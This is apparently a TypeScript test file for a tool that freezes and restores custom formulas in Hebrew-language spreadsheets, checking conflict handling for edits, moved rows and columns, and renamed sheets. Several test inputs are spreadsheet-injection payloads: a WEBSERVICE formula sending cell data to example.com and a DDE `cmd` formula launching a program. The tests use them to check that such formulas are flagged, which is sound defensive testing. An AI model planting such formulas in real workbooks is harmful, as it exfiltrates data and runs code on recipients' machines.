import { planRestore } from '../../../../lib/index.js';
import type { CellValue, SheetSnapshot } from '../../../../lib/index.js';
import { sheet, type Given } from '../portable/book.js';
import { applied, formulas, frozen, restored } from './support.js';

const QUOTA = '=CLUSTERQUOTA(B2,C2,D2)';
const book = (extra: readonly (readonly Given[])[] = []): readonly SheetSnapshot[] => [
  sheet('חברות', [
    ['רשות', 'אוכלוסייה', 'אשכול', 'פריפריה', 'מכסה'],
    ['טייבה', 44_585, 3, 6, [QUOTA, 55_126.5]],
    ['טירה', 28_000, 4, 6, ['=CLUSTERQUOTA(B3,C3,D3)', 54_000]],
    ['סה"כ', ['=SUM(B2:B3)', 72_585], null, null, ['=SUM(E2:E3)', 109_126.5]],
    ...extra,
  ]),
];
const at = (sheets: readonly SheetSnapshot[], row: number, column: number, name = 'חברות') =>
  sheets.find((each) => each.name === name)?.rows[row]?.[column];

/** Rows put in before `row`, as Excel does it where formulas do not refer below. */
const withRow = (
  sheets: readonly SheetSnapshot[],
  row: number,
  cells: readonly CellValue[],
): readonly SheetSnapshot[] =>
  sheets.map((each) =>
    each.name === 'חברות'
      ? {
          ...each,
          rows: [...each.rows.slice(0, row), cells.map((value) => ({ value })), ...each.rows.slice(row)],
        }
      : each,
  );
const withCell = (
  sheets: readonly SheetSnapshot[],
  row: number,
  column: number,
  value: CellValue,
  formula?: string,
) =>
  sheets.map((each) =>
    each.name === 'חברות'
      ? {
          ...each,
          rows: each.rows.map((cells, r) =>
            r === row
              ? Array.from({ length: Math.max(cells.length, column + 1) }, (_, c) =>
                  c === column ? { value, ...(formula === undefined ? {} : { formula }) } : cells[c],
                )
              : cells,
          ),
        }
      : each,
  );

describe('restoring', () => {
  const sent = (sheets = book()) => applied(sheets, frozen(sheets).plan);

  it('gives back every formula to the letter, and takes away all that freezing added', () => {
    const odd = '= CLUSTERQUOTA( B2 ,c2,$D$2 )+0*len("CLUSTERQUOTA(""x"")")';
    const before = book([['x', 1, 1, 1, [odd, 5]]]);
    const after = applied(sent(before), restored(sent(before)).plan);
    expect(formulas(after)).toEqual(formulas(before));
    expect(after.map(({ name }) => name)).toEqual(['חברות']);
  });

  it('does not mind other cells that were changed meanwhile', () => {
    const edited = withCell(withCell(sent(), 1, 1, 99_999), 0, 0, 'שם הרשות');
    const back = restored(edited);
    expect(back.conflicts).toEqual([]);
    expect(back.restored.map(({ formula }) => formula)).toEqual([QUOTA, '=CLUSTERQUOTA(B3,C3,D3)']);
  });

  it('asks where the recipient wrote another value, and does as decided', () => {
    const edited = withCell(sent(), 1, 4, 1);
    const back = restored(edited);
    expect(back.conflicts).toMatchObject([
      { id: "'חברות'!E2", kind: 'edited', value: 55_126.5, now: { value: 1 }, choices: ['formula', 'keep'] },
    ]);
    const half = applied(edited, back.plan);
    expect(at(half, 1, 4)).toEqual({ value: 1 });
    expect(half.map(({ name }) => name)).toContain('_eshkol');

    const put = applied(half, restored(half, { "'חברות'!E2": 'formula' }).plan);
    expect(formulas(put)).toEqual(formulas(book()));
    expect(put.map(({ name }) => name)).toEqual(['חברות']);

    const left = restored(half, { "'חברות'!E2": 'keep' });
    expect(left.kept).toHaveLength(1);
    const kept = applied(half, left.plan);
    expect(at(kept, 1, 4)).toEqual({ value: 1 });
    expect(kept.map(({ name }) => name)).toEqual(['חברות']);
  });

  it('asks where a formula was put there, but not where it is the same one', () => {
    const typed = withCell(withCell(sent(), 1, 4, 7, '=B2*2'), 2, 4, 54_000, '=CLUSTERQUOTA(B3,C3,D3)');
    const back = restored(typed);
    expect(back.conflicts).toMatchObject([{ kind: 'formula-typed', now: { formula: '=B2*2' } }]);
    expect(back.restored).toMatchObject([{ cell: 'E3', already: true }]);
  });

  it('finds values that an inserted row has moved, with references as Excel would have moved them', () => {
    const back = restored(withRow(sent(), 2, ['ג׳לג׳וליה', 10_000, 3, 6]));
    expect(back.restored.map(({ cell }) => cell)).toEqual(['E2']);
    expect(back.conflicts).toMatchObject([
      {
        kind: 'moved',
        cell: 'E3',
        now: { cell: 'E4', value: 54_000 },
        proposed: { sheet: 'חברות', cell: 'E4', formula: '=CLUSTERQUOTA(B4,C4,D4)' },
      },
    ]);
  });

  it('follows a sorted row', () => {
    const swapped = sent().map((each) => {
      const [head, one, two, ...rest] = each.rows;
      return each.name === 'חברות' && head && one && two
        ? { ...each, rows: [head, two, one, ...rest] }
        : each;
    });
    expect(
      restored(swapped).conflicts.map(({ kind, cell, proposed }) => [
        kind,
        cell,
        proposed?.cell,
        proposed?.formula,
      ]),
    ).toEqual([
      ['moved', 'E2', 'E3', '=CLUSTERQUOTA(B3,C3,D3)'],
      ['moved', 'E3', 'E2', '=CLUSTERQUOTA(B2,C2,D2)'],
    ]);
  });

  it('follows an inserted column, and a deleted row', () => {
    const wide = sent().map((each) =>
      each.name === 'חברות'
        ? {
            ...each,
            rows: each.rows.map((row, r) => [row[0], { value: `הערה ${String(r)}` }, ...row.slice(1)]),
          }
        : each,
    );
    expect(
      restored(wide).conflicts.map(({ kind, proposed }) => [kind, proposed?.cell, proposed?.formula]),
    ).toEqual([
      ['moved', 'F2', '=CLUSTERQUOTA(C2,D2,E2)'],
      ['moved', 'F3', '=CLUSTERQUOTA(C3,D3,E3)'],
    ]);
    const short = sent().map((each) =>
      each.name === 'חברות' ? { ...each, rows: each.rows.filter((_, r) => r !== 1) } : each,
    );
    expect(restored(short).conflicts.map(({ kind, cell, proposed }) => [kind, cell, proposed?.cell])).toEqual(
      [
        ['place-deleted', 'E2', undefined],
        ['moved', 'E3', 'E2'],
      ],
    );
  });

  it('follows a renamed sheet, and has no place on a deleted one', () => {
    const renamed = sent().map((each) => (each.name === 'חברות' ? { ...each, name: 'נתוני 2027' } : each));
    expect(restored(renamed).conflicts).toMatchObject([
      { kind: 'sheet-renamed', proposed: { sheet: 'נתוני 2027', cell: 'E2', formula: QUOTA } },
      { kind: 'sheet-renamed' },
    ]);
    const gone = [...sent().filter(({ name }) => name !== 'חברות'), sheet('אחר', [['x']])];
    const lost = restored(gone);
    expect(lost.conflicts).toMatchObject([{ kind: 'sheet-deleted', choices: ['keep'] }, {}]);
    expect(lost.plan.steps).toEqual([]);
    const ids = Object.fromEntries(lost.conflicts.map(({ id }) => [id, 'keep' as const]));
    expect(applied(gone, restored(gone, ids).plan).map(({ name }) => name)).toEqual(['אחר']);
  });

  it('asks where only the cells that a formula refers to have moved', () => {
    const two = [
      sheet('a', [[['=CLUSTERQUOTA(b!A3,b!$B$3,b!C3)', 5]]]),
      sheet('b', [['x'], ['y'], [9, 3, 6], ['z']]),
    ];
    const inserted = applied(two, frozen(two).plan).map((each) =>
      each.name === 'b'
        ? { ...each, rows: [...each.rows.slice(0, 1), [{ value: 'new' }], ...each.rows.slice(1)] }
        : each,
    );
    expect(restored(inserted).conflicts).toMatchObject([
      { kind: 'references-moved', proposed: { cell: 'A1', formula: '=CLUSTERQUOTA(b!A4,b!$B$4,b!C4)' } },
    ]);
  });

  it('asks where something was written into what a formula filled', () => {
    const spilled = sheet(
      'a',
      [
        ['א', 1, 2, ['=CLUSTERQUOTAS(B1:B3,C1:C3,C1:C3)', 10]],
        ['ב', 1, 2, 20],
        ['ג', 1, 2, 30],
      ],
      [{ top: 0, left: 3, bottom: 2, right: 3 }],
    );
    const after = applied([spilled], frozen([spilled]).plan).map((each) =>
      each.name === 'a'
        ? {
            ...each,
            rows: each.rows.map((row, r) => (r === 1 ? [...row.slice(0, 3), { value: 'mine' }] : row)),
          }
        : each,
    );
    expect(restored(after).conflicts).toMatchObject([
      { kind: 'spill-occupied', choices: ['formula', 'keep'] },
    ]);
  });

  it('keeps a stamp in which the recipient wrote', () => {
    const noted = sent().map((each) =>
      each.name === 'הקפאת נוסחאות' ? { ...each, rows: [...each.rows, [{ value: 'לברר עם הגזבר' }]] } : each,
    );
    const back = restored(noted);
    expect(back.sheetsKept).toEqual([{ sheet: 'הקפאת נוסחאות', why: 'edited' }]);
    expect(applied(noted, back.plan).map(({ name }) => name)).toEqual(['חברות', 'הקפאת נוסחאות']);
  });

  it.each([
    ['a page', '=CLUSTERQUOTA(B2,C2,D2)&WEBSERVICE("https://example.com/?"&A1)'],
    ['a link', '=HYPERLINK("https://example.com",CLUSTERQUOTA(B2,C2,D2))'],
    ['a program', "=CLUSTERQUOTA(B2,C2,D2)+cmd|' /c calc'!A0"],
    ['another file', "=CLUSTERQUOTA('[other.xlsx]a'!B2,C2,D2)"],
  ])('does not put back a formula that reaches %s without asking', (_, formula) => {
    const back = restored(sent(book([['x', 1, 1, 1, [formula, 5]]])));
    expect(back.conflicts).toMatchObject([
      { kind: 'reaches-outside', formula, choices: ['formula', 'keep'] },
    ]);
  });

  it('refuses a record with a formula that is none of ours', () => {
    const spoiled = sent().map((each) => ({
      ...each,
      rows: each.rows.map((row) =>
        row.map((cell) =>
          typeof cell?.value === 'string' && cell.value.startsWith('{')
            ? { value: cell.value.replace('=CLUSTERQUOTA(B2,C2,D2)', '=WEBSERVICE(B2)') }
            : cell,
        ),
      ),
    }));
    expect(planRestore(spoiled)).toMatchObject({
      problems: [{ code: 'record-payload-unexpected', facts: { path: 'cells.0.formula' } }],
    });
  });

  it('refuses a record that is not what freezing keeps', () => {
    const spoiled = sent().map((each) =>
      each.name === '_eshkol'
        ? {
            ...each,
            rows: each.rows.map((row) => row.map((cell, c) => (c === 4 ? { value: '{"version":1}' } : cell))),
          }
        : each,
    );
    expect(planRestore(spoiled)).toMatchObject({ problems: [{ code: 'record-payload-unexpected' }] });
  });
});
